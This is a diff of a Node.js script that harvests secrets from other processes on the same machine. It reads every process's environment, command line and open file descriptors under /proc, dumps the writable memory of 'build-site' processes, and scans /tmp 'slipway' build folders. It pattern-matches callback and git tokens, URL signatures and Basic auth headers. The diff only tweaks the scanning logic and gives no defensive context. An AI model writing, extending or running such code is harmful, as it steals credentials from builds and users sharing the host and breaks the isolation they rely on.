@@ -34,10 +34,11 @@ const fs = require('node:fs');
 const found = [];
 const secrets = /(callback|git)-token-[0-9a-f]{4}|sig=[A-Za-z0-9%]{20,}|Basic [A-Za-z0-9+/=]{20,}/g;
 const keep = (from, text) => { for (const [secret] of text.matchAll(secrets)) found.push(from + ': ' + secret); };
-const look = (file) => { try { if (fs.statSync(file).isFile()) keep(file, fs.readFileSync(file, 'latin1')); } catch {} };
+const look = (file) => { try { const { size } = fs.statSync(file); if (size < 1e6 && fs.statSync(file).isFile()) keep(file, fs.readFileSync(file, 'latin1')); } catch {} };
 const list = (folder) => { try { return fs.readdirSync(folder); } catch { return []; } };
 const search = (pid) => {
   try {
+    if (!fs.readFileSync('/proc/' + pid + '/cmdline', 'latin1').includes('build-site')) return;
     const memory = fs.openSync('/proc/' + pid + '/mem', 'r');
     for (const line of fs.readFileSync('/proc/' + pid + '/maps', 'utf8').split('\n')) {
       const [, from, to] = /^([0-9a-f]+)-([0-9a-f]+) rw/.exec(line) ?? [];
@@ -51,7 +52,7 @@ const search = (pid) => {
 for (const pid of list('/proc').filter((name) => /^[0-9]+$/.test(name) && Number(name) !== process.pid)) {
   for (const name of ['environ', 'cmdline']) look('/proc/' + pid + '/' + name);
   for (const fd of list('/proc/' + pid + '/fd')) look('/proc/' + pid + '/fd/' + fd);
-  if (fs.readFileSync('/proc/' + pid + '/cmdline', 'latin1').includes('build-site')) search(pid);
+  search(pid);
 }
 for (const folder of list('/tmp').filter((name) => /^slipway-(own|build)-/.test(name))) {
   for (const file of list('/tmp/' + folder)) look('/tmp/' + folder + '/' + file);
